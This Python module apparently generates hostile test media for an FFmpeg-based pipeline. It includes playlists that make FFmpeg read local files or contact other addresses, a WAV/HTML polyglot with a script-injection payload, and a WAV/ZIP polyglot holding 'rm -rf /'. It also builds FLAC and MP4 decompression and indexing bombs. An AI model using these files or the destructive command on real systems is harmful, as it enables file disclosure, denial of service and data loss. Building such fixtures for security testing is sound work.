"""Files made to harm whoever opens them: bombs, lies, playlists that name a neighbour, two formats in one."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

PLAYLISTS = {
    "ffconcat": "ffconcat version 1.0\nfile {name}\n",
    "ffconcat absolute": "ffconcat version 1.0\nfile '{path}'\n",
    "hls relative": "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:1.0,\n{name}\n#EXT-X-ENDLIST\n",
    "hls absolute": "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:1.0,\n{path}\n#EXT-X-ENDLIST\n",
    "hls remote": "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:1.0,\n{url}/a.ts\n#EXT-X-ENDLIST\n",
    "dash": '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet>'
    '<Representation id="1" bandwidth="1"><BaseURL>{url}/a.mp4</BaseURL></Representation></AdaptationSet></Period>'
    "</MPD>",
    "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio {port} RTP/AVP 0\n",
    "asx": '<asx version="3.0"><entry><ref href="{url}/a.wma"/></entry></asx>',
    "pls": "[playlist]\nFile1={path}\nNumberOfEntries=1\n",
    "rtsp text": "RTSPtext\nrtsp://127.0.0.1:{port}/a\n",
    "cue": 'FILE "{path}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
    "concat address": "concat:{path}|{path}",
}
"""Texts that FFmpeg may follow to another file or address; to be filled with where the neighbour is."""


def wav_and_page(wav: bytes) -> bytes:
    """A WAV file that is also a web page to whoever looks for tags."""
    page = b"<html><script>alert(document.domain)</script></html>"
    chunk = b"LIST" + struct.pack("<I", len(page) + len(page) % 2) + page + b"\0" * (len(page) % 2)
    body = b"WAVE" + chunk + wav[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def wav_and_zip(wav: bytes) -> bytes:
    """A WAV file that unzips."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as entries:
        entries.writestr("run.sh", "rm -rf /")
    return wav + archive.getvalue()


def zip_and_wav(wav: bytes) -> bytes:
    """An archive with a WAV file behind it."""
    return wav_and_zip(b"") + wav


def quicktime_with_foreign_samples(path: Path) -> bytes:
    """A QuickTime film whose samples are said to be in another file."""
    return mp4_of_many_samples(5, reference=path)


def flac_silence(
    seconds: float, *, rate_hz: int = 8_000, channels: int = 1, claimed_samples: int | None = None
) -> bytes:
    """Silence in the largest and emptiest blocks FLAC knows (RFC 9639): a day takes 150 kB.

    Args:
        claimed_samples: what the header says instead of the truth.
    """
    rate_code = {8_000: 4, 16_000: 5, 192_000: 3}[rate_hz]
    n_blocks, n_samples = -(-round(seconds * rate_hz) // 65_535), round(seconds * rate_hz)
    claim = n_samples if claimed_samples is None else claimed_samples
    numbers = rate_hz << 44 | (channels - 1) << 41 | 15 << 36 | claim
    info = struct.pack(">HH6x", 65_535, 65_535) + numbers.to_bytes(8) + bytes(16)
    frames = [_flac_block(number, rate_code, channels) for number in range(n_blocks)]
    return b"fLaC" + b"\x80" + len(info).to_bytes(3) + info + b"".join(frames)


def flac_with_comments(n_comments: int) -> bytes:
    """Two seconds of FLAC with so many different comments; FFmpeg compares each one with all before it."""
    sound = flac_silence(2)
    end_of_info = 4 + 4 + 34
    comments = (b"K%d=v" % number for number in range(n_comments))
    entries = b"".join(struct.pack("<I", len(comment)) + comment for comment in comments)
    block = struct.pack("<I", 0) + struct.pack("<I", n_comments) + entries
    return b"fLaC\0" + sound[5:end_of_info] + b"\x84" + len(block).to_bytes(3) + block + sound[end_of_info:]


def _flac_block(number: int, rate_code: int, channels: int) -> bytes:
    """65,535 samples of 16-bit silence: one constant per channel."""
    head = (
        bytes([0xFF, 0xF8, 0x70 | rate_code, (channels - 1) << 4 | 0x08])
        + chr(number).encode(errors="surrogatepass")
        + b"\xff\xfe"
    )
    head += _crc(head, 0x07, 8)
    body = head + bytes(3) * channels
    return body + _crc(body, 0x8005, 16)


def _crc(data: bytes, polynomial: int, bits: int) -> bytes:
    remainder, top, mask = 0, 1 << bits - 1, (1 << bits) - 1
    for byte in data:
        remainder ^= byte << bits - 8
        for _ in range(8):
            remainder = (remainder << 1 ^ polynomial) & mask if remainder & top else remainder << 1 & mask
    return remainder.to_bytes(bits // 8)


def mp4_of_many_samples(n_samples: int, reference: Path | None = None) -> bytes:
    """777 bytes of MP4 whose table claims so many samples of one byte; FFmpeg makes an index of all of them.

    Args:
        reference: where the samples are, instead of in the file itself.
    """

    def box(kind: bytes, *parts: bytes) -> bytes:
        body = b"".join(parts)
        return struct.pack(">I", 8 + len(body)) + kind + body

    def full(kind: bytes, *parts: bytes, flags: int = 0) -> bytes:
        return box(kind, struct.pack(">I", flags), *parts)

    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    decoder = b"\x04\x11\x40\x15" + bytes(3) + struct.pack(">II", 64_000, 64_000) + b"\x05\x02\x14\x08"
    stream = b"\x03" + bytes([len(decoder) + 6]) + b"\0\1\0" + decoder + b"\x06\x01\x02"
    entry = box(
        b"mp4a",
        bytes(6) + b"\0\1" + bytes(8) + struct.pack(">HHHHI", 1, 16, 0, 0, 16_000 << 16),
        full(b"esds", stream),
    )
    table = box(
        b"stbl",
        full(b"stsd", struct.pack(">I", 1), entry),
        full(b"stts", struct.pack(">III", 1, n_samples, 1024)),
        full(b"stsc", struct.pack(">IIII", 1, 1, n_samples, 1)),
        full(b"stsz", struct.pack(">II", 1, n_samples)),
        full(b"stco", struct.pack(">II", 1, 48)),
    )
    place = full(b"url ", b"file://" + bytes(reference) + b"\0") if reference else full(b"url ", flags=1)
    places = box(b"dinf", full(b"dref", struct.pack(">I", 1), place))
    media = box(
        b"mdia",
        full(b"mdhd", struct.pack(">IIIII", 0, 0, 16_000, 1_000, 0x55C40000)),
        full(b"hdlr", bytes(4), b"soun", bytes(13)),
        box(b"minf", full(b"smhd", bytes(4)), places, table),
    )
    track = box(b"trak", full(b"tkhd", struct.pack(">5I16x", 0, 0, 1, 0, 1_000), matrix, bytes(8), flags=3), media)
    movie = full(b"mvhd", struct.pack(">4II6x", 0, 0, 1_000, 1_000, 0x10000), bytes(6), matrix, bytes(24), b"\0\0\0\2")
    return box(b"ftyp", b"isom\0\0\2\0isomiso2mp41") + box(b"moov", movie, track) + box(b"mdat", bytes(200))
